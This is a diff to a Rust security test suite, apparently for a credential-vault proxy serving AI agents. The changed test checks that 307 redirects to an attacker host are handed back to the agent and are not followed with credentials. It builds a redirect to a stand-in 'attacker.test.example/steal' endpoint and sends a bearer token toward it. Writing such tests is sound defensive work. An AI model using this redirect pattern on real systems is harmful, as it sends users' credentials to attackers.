@@ -54,7 +54,7 @@ fn case_23_an_echoed_credential_never_reaches_the_agent_in_any_encoding() {
 fn case_24_redirects_are_handed_to_the_agent_and_followed_by_nobody() {
     let attacker = Witness::on("127.0.0.1", 0);
     let canary = Canary::new("redirect");
-    let pin = format!("attacker.test.example:443:127.0.0.1");
+    let pin = format!("attacker.test.example:{}:127.0.0.1", attacker.port);
     let proxy = Proxy::start_with(
         &["--resolve", &pin],
         &[("AGENT_VAULT_NETWORK_ALLOWLIST", "127.0.0.1/32")],
@@ -66,21 +66,19 @@ fn case_24_redirects_are_handed_to_the_agent_and_followed_by_nobody() {
     let auth = format!("Bearer {}", proxy.token);
     let found = proxy.call("GET", "api.test.example", "/redirect", &[]);
     assert_eq!(found.status, 302);
+    let elsewhere = format!("https://attacker.test.example:{}/steal", attacker.port);
     let temporary = proxy.send(
         "POST",
-        &proxy.target("api.test.example", "/redirect-307"),
+        &proxy.target("api.test.example", &format!("/redirect-307?to={elsewhere}")),
         &[("authorization", &auth)],
         b"{\"amount\":1}",
     );
     assert_eq!(temporary.status, 307);
-    assert_eq!(
-        temporary.header("location"),
-        Some("https://attacker.test.example/steal")
-    );
+    assert_eq!(temporary.header("location"), Some(elsewhere.as_str()));
     // The agent follows it through the proxy: no service covers the new host.
     let followed = proxy.send(
         "POST",
-        "/proxy/attacker.test.example/steal",
+        &format!("/proxy/attacker.test.example:{}/steal", attacker.port),
         &[("authorization", &auth)],
         b"{\"amount\":1}",
     );
